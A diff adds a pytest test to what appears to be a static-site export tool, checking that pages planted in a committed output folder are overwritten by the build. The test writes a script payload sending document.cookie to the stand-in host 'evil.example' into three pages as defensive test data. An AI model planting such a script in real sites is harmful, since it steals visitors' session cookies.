@@ -5,6 +5,7 @@ with the folder it is given.
 
 from __future__ import annotations
 
+import shutil
 from collections.abc import Iterator
 from datetime import date
 from pathlib import Path
@@ -15,8 +16,10 @@ from conftest import SCHEDULE, ManualRepo, doc
 from fastapi.testclient import TestClient
 
 from web.app import create_app
+from web.export import build_site
 
 TODAY = date(2024, 3, 20)
+BASE = "https://procedures.example.org"
 EVERY_RESPONSE = ("content-security-policy", "x-content-type-options", "referrer-policy",
                   "x-frame-options")  # fmt: skip
 
@@ -75,3 +78,24 @@ def test_every_kind_of_answer_carries_the_security_headers(failing: TestClient, 
             assert missing == [], (method, address, response.status_code)
     response = failing.post("/chapters")
     assert response.status_code == 405 and "content-security-policy" in response.headers
+
+
+def test_a_folder_committed_with_a_manifest_cannot_slip_its_own_pages_into_an_export(
+    repo: ManualRepo,
+):
+    """An author commits ``public/`` holding a real build's manifest and a page of their own
+    at the address of one of the build's; CI then builds into ``public/`` in its checkout. The
+    manifest says the page is ours and unchanged: it must still be what this build makes."""
+    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
+    honest = repo.path.parent / "honest"
+    build_site(repo.open(), honest, BASE, TODAY)
+    public = repo.path / "public"
+    shutil.copytree(honest, public, ignore=shutil.ignore_patterns(".tracker-build.lock"))
+    planted = '<script>location="https://evil.example/"+document.cookie</script>'
+    for page in ("index.html", "chapters/a/index.html", "static/app.js"):
+        (public / page).write_text(planted, encoding="utf-8")
+    repo.git("add", "--all")
+    repo.git("commit", "--quiet", "-m", "Add the site")
+    build_site(repo.open(), public, BASE, TODAY)
+    for page in ("index.html", "chapters/a/index.html", "static/app.js"):
+        assert (public / page).read_bytes() == (honest / page).read_bytes(), page
